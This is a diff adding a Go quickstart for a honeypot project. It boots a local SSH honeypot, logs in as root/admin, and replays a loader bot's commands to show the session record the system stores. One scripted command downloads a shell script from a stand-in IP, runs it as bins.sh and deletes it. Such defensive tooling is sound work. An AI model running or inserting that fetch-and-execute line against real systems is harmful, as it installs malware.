@@ -1,0 +1,61 @@
+// Quickstart: boot one honeypot node, attack it over real SSH with the
+// bundled client, and inspect the session record the honeynet database
+// would store.
+package main
+
+import (
+	"encoding/json"
+	"fmt"
+	"log"
+	"os"
+
+	"honeynet/internal/honeypot"
+	"honeynet/internal/session"
+	"honeynet/internal/simulate"
+	"honeynet/internal/sshclient"
+)
+
+func main() {
+	records := make(chan *session.Record, 1)
+	node, err := honeypot.New(honeypot.Config{
+		ID:       "hp-quickstart",
+		Download: simulate.Fetcher(),
+		Sink:     func(r *session.Record) { records <- r },
+	})
+	if err != nil {
+		log.Fatal(err)
+	}
+	addr, err := node.ListenSSH("127.0.0.1:0")
+	if err != nil {
+		log.Fatal(err)
+	}
+	defer node.Close()
+	fmt.Println("honeypot listening on", addr)
+
+	// Attack it the way a typical loader bot does.
+	cli, err := sshclient.Dial(addr, sshclient.Config{User: "root", Password: "admin"})
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Println("logged in as root (server:", cli.ServerVersion()+")")
+
+	for _, cmd := range []string{
+		`uname -a`,
+		`cat /proc/cpuinfo | grep name | wc -l`,
+		`cd /tmp; wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh`,
+	} {
+		res, err := cli.Exec(cmd)
+		if err != nil {
+			log.Fatal(err)
+		}
+		fmt.Printf("$ %s\n%s", cmd, res.Output)
+	}
+	cli.Close()
+
+	rec := <-records
+	fmt.Printf("\nrecorded session: kind=%s commands=%d downloads=%d state_changed=%v\n",
+		rec.Kind(), len(rec.Commands), len(rec.Downloads), rec.StateChanged)
+	enc := json.NewEncoder(os.Stdout)
+	enc.SetIndent("", "  ")
+	_ = enc.Encode(rec)
+}
